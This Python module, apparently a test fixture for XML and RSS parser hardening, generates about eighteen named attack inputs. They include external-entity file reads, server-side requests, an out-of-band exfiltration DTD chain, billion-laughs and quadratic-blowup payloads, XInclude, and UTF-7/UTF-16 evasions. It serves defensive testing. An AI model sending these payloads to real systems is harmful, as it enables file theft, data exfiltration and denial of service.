"""XML that would have a careless parser read files, ask servers or grow without end."""

from collections.abc import Mapping
from pathlib import Path

_SCHEMA = "http://www.w3.org/2001/XMLSchema-instance"
_BODY = "<channel><title>%s</title><item><title>%s</title><description>%s</description></item></channel>"


def xml_attacks(secret: Path, server: str) -> Mapping[str, bytes]:
    """Fifteen and more attacks by name.

    Args:
        secret: a file whose content must not come out.
        server: an address (``http://host:port``) that must not be asked.
    """
    file = secret.as_uri()
    return {
        "entity of a file": _rss(f'<!DOCTYPE rss [<!ENTITY x SYSTEM "{file}">]>'),
        "entity of a server": _rss(f'<!DOCTYPE rss [<!ENTITY x SYSTEM "{server}/entity">]>'),
        "public entity": _rss(f'<!DOCTYPE rss [<!ENTITY x PUBLIC "-//X//X" "{server}/public">]>'),
        "parameter entity": _rss(f'<!DOCTYPE rss [<!ENTITY % p SYSTEM "{server}/parameter.dtd"> %p;]>'),
        "parameter entity of a file": _rss(f'<!DOCTYPE rss [<!ENTITY % p SYSTEM "{file}"> %p;]>'),
        "exfiltration": _rss(
            f'<!DOCTYPE rss [<!ENTITY % f SYSTEM "{file}"><!ENTITY % d SYSTEM "{server}/out.dtd"> %d; %send;]>'
        ),
        "outer DTD": _rss(f'<!DOCTYPE rss SYSTEM "{server}/outer.dtd">'),
        "outer DTD of a file": _rss(f'<!DOCTYPE rss SYSTEM "{file}">'),
        "billion laughs": _rss(_laughs()),
        "quadratic growth": _rss(f'<!DOCTYPE rss [<!ENTITY x "{"a" * 50_000}">]>', "&x;" * 20_000),
        "entity in itself": _rss('<!DOCTYPE rss [<!ENTITY x "&y;"><!ENTITY y "&x;">]>'),
        "inclusion of a file": _include(file),
        "inclusion from a server": _include(f"{server}/include"),
        "style sheet": f'<?xml version="1.0"?><?xml-stylesheet href="{server}/style.xsl"?>'.encode() + _rss("", "x"),
        "schema": _rss("", "x").replace(b"<rss", f'<rss xmlns:i="{_SCHEMA}" i:schemaLocation="x {server}"'.encode(), 1),
        "UTF-16": _rss(f'<!DOCTYPE rss [<!ENTITY x SYSTEM "{file}">]>').decode().encode("utf-16"),
        "UTF-7": b'<?xml version="1.0" encoding="UTF-7"?>'
        + f'<!DOCTYPE rss [<!ENTITY x SYSTEM "{file}">]><rss>&x;</rss>'.encode("utf-7"),
        "default attribute": _rss(f'<!DOCTYPE rss [<!ENTITY x SYSTEM "{file}"><!ATTLIST rss a CDATA "&x;">]>'),
    }  # fmt: skip


def as_page(attack: bytes) -> bytes:
    """The same attack in an XHTML page."""
    return attack.replace(b"rss", b"html").replace(b"channel", b"body").replace(b"item", b"p")


def _rss(doctype: str, text: str = "&x;") -> bytes:
    return f'<?xml version="1.0"?>{doctype}<rss version="2.0">{_BODY % (text, text, text)}</rss>'.encode()


def _include(target: str) -> bytes:
    included = f'<i:include xmlns:i="http://www.w3.org/2001/XInclude" parse="text" href="{target}"/>'
    return _rss("", included)


def _laughs() -> str:
    names = "abcdefghij"
    levels = [f'<!ENTITY {names[0]} "ha">']
    levels += [f'<!ENTITY {name} "{f"&{names[at]};" * 10}">' for at, name in enumerate(names[1:])]
    return f'<!DOCTYPE rss [{"".join(levels)}<!ENTITY x "&j;">]>'
